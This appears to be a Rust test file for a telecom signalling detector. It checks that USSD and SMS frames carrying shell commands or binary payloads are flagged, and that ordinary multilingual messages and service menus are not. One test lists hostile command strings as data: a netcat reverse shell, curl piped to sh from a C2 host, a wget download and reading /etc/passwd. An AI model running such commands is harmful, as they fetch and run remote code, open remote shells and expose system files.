//! TCAP/MAP misuse as a carrier (2005-2008, 2001/2002 on prose in every script), in several
//! variants on real frames, and the legitimate look-alikes that stay quiet: SIM OTA from the
//! home SMSC, concatenated SMS, human text in UCS-2 Chinese, Tamil, Arabic, Thai, Cyrillic,
//! GSM 7-bit prose, service codes and menus.

mod support;

use sigscope_core::ber::Tag;
use sigscope_rules::{Engine, Policy};
use support::*;

const HOME_POLICY: &str = "[home]\nplmns=[\"23415\"]\ngt_prefixes=[\"4477009\"]\n";

fn ids(frames: &[Frame]) -> Vec<u32> {
    let mut e = Engine::new(Policy::from_toml(HOME_POLICY).unwrap());
    let mut v = Vec::new();
    decode(frames, &mut |m| {
        e.observe(m, &mut |a| {
            if !a.tagged {
                v.push(a.sig.id())
            }
        })
    });
    v.sort_unstable();
    v.dedup();
    v
}

fn ussd(ts: f64, calling: &str, text: &str) -> Frame {
    let otid = 0x3300_0000 | (ts * 10.0) as u32;
    Frame::at(
        ts,
        map_invoke(
            otid,
            calling,
            "447700900001",
            (ac::NETWORK_UNSTRUCTURED_SS, 2),
            op::PROCESS_USSD,
            &ussd_arg(text),
        ),
    )
}

/// mt-ForwardSM from `calling` carrying a TPDU with `pid`, `dcs`, optional UDH and `ud`.
fn mt_sms(ts: f64, calling: &str, pid: u8, dcs: u8, udh: Option<&[u8]>, ud: &[u8]) -> Frame {
    let mut tpdu = vec![if udh.is_some() { 0x44 } else { 0x04 }];
    tpdu.extend_from_slice(&[11, 0x91]);
    tpdu.extend(tbcd("85290001234"));
    tpdu.extend_from_slice(&[pid, dcs]);
    tpdu.extend_from_slice(&[0x52, 0x11, 0x52, 0x01, 0x00, 0x00, 0x00]);
    let mut body = Vec::new();
    if let Some(h) = udh {
        body.push(h.len() as u8);
        body.extend_from_slice(h);
    }
    body.extend_from_slice(ud);
    tpdu.push(body.len() as u8);
    tpdu.extend(body);
    let arg = tlv(
        Tag::SEQUENCE,
        &[
            &tlv(Tag::ctx(0), &[&tbcd("234150123456789")]),
            &tlv(Tag::ctx(4), &[&isdn(calling)]),
            &tlv(Tag::OCTET_STRING, &[&tpdu]),
        ],
    );
    let otid = 0x4400_0000 | (ts * 10.0) as u32;
    Frame::at(
        ts,
        map_invoke(
            otid,
            calling,
            "447700900555",
            (ac::SHORT_MSG_MT_RELAY, 3),
            op::MT_FORWARD_SM,
            &arg,
        ),
    )
}

fn ucs2(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(|u| u.to_be_bytes()).collect()
}

#[test]
fn text_that_reads_as_commands() {
    let commands = [
        "wget http://203.0.113.50/a.sh; chmod +x a.sh",
        "cat /etc/passwd",
        "id;uname -a && whoami",
        "bash -c 'nc -e /bin/sh 198.51.100.7 4444'",
        "echo $(hostname) > /tmp/x",
        "curl -s http://c2.example/p | sh",
    ];
    for (i, c) in commands.iter().enumerate() {
        let got = ids(&[ussd(1.0 + i as f64, "85290001234", c)]);
        assert!(got.contains(&2006), "USSD {c:?}: {got:?}");
        let got = ids(&[Frame::at(
            1.0,
            map_invoke(
                0x5000 + i as u32,
                "85290001234",
                "447700900555",
                (ac::SHORT_MSG_MT_RELAY, 3),
                op::MT_FORWARD_SM,
                &mt_forward_sm_arg("85290001234", c),
            ),
        )]);
        assert!(got.contains(&2006), "SMS {c:?}: {got:?}");
    }
}

#[test]
fn binary_payloads_in_short_messages() {
    // encrypted-looking 8-bit payloads from a foreign GT, with and without ports / OTA PID
    let variants = [
        (0x00, 0x04, None, noise(11, 120)),
        (0x00, 0xf6, None, noise(12, 80)),
        (0x7f, 0xf6, Some(&[0x70u8, 0x00][..]), noise(13, 100)),
        (
            0x00,
            0x04,
            Some(&[0x05u8, 0x04, 0x23, 0xf4, 0x00, 0x00][..]),
            noise(14, 64),
        ),
    ];
    for (i, (pid, dcs, udh, ud)) in variants.iter().enumerate() {
        let got = ids(&[mt_sms(1.0, "85290001234", *pid, *dcs, *udh, ud)]);
        assert!(got.contains(&2005), "variant {}: {got:?}", i + 1);
    }
    // SIM OTA (PID 7F, DCS F6, command packet) from the home SMSC: quiet
    let ota = mt_sms(
        1.0,
        "447700900777",
        0x7f,
        0xf6,
        Some(&[0x70, 0x00]),
        &noise(15, 100),
    );
    assert!(!ids(&[ota]).contains(&2005));
}

#[test]
fn prose_in_every_script_and_normal_services_stay_quiet() {
    let prose = [
        "您好，您的快递今天下午三点送达，请保持电话畅通。如有疑问请回复本短信或致电客服热线，谢谢您的耐心等待。",
        "வணக்கம், உங்கள் கணக்கில் ரூ.500 வரவு வைக்கப்பட்டுள்ளது. மேலும் விவரங்களுக்கு எங்கள் வாடிக்கையாளர் சேவையை அழைக்கவும்.",
        "مرحباً، تم شحن رصيدك بمبلغ ٥٠ ريال. شكراً لاستخدامك خدماتنا، نتمنى لك يوماً سعيداً مع عائلتك وأصدقائك.",
        "สวัสดีครับ ยอดเงินคงเหลือของคุณคือ 250 บาท ขอบคุณที่ใช้บริการของเรา กรุณาติดต่อศูนย์บริการลูกค้าหากมีข้อสงสัย",
        "Здравствуйте! Ваш баланс пополнен на 300 рублей. Спасибо, что пользуетесь нашими услугами, хорошего дня.",
        "Xin chào, tài khoản của bạn đã được nạp 50.000 đồng. Cảm ơn bạn đã sử dụng dịch vụ của chúng tôi hôm nay.",
    ];
    let mut frames = Vec::new();
    for (i, p) in prose.iter().enumerate() {
        let ts = 1.0 + i as f64;
        // UCS-2, whole and as a concatenated part
        let body = ucs2(p);
        let cut = body.len().min(134) & !1;
        frames.push(mt_sms(ts, "85290001234", 0, 0x08, None, &body[..cut]));
        frames.push(mt_sms(
            ts + 0.5,
            "85290001234",
            0,
            0x08,
            Some(&[0x00, 0x03, 0x2a, 0x02, 0x01]),
            &body[..cut.min(128)],
        ));
    }
    // GSM 7-bit prose, service codes and menus
    frames.push(ussd(20.0, "447700900123", "*100#"));
    frames.push(ussd(
        21.0,
        "447700900123",
        "1. Balance\n2. Top up\n3. Bundles\n4. Help",
    ));
    frames.push(Frame::at(
        22.0,
        map_invoke(
            0x6001,
            "85290001234",
            "447700900555",
            (ac::SHORT_MSG_MT_RELAY, 3),
            op::MT_FORWARD_SM,
            &mt_forward_sm_arg(
                "85290001234",
                "Your code is 483920. Do not share it. Visit www.example.com/help for more.",
            ),
        ),
    ));
    let got = ids(&frames);
    assert!(
        !got.iter()
            .any(|id| [2001, 2002, 2005, 2006, 2007, 2008].contains(id)),
        "{got:?}"
    );
}
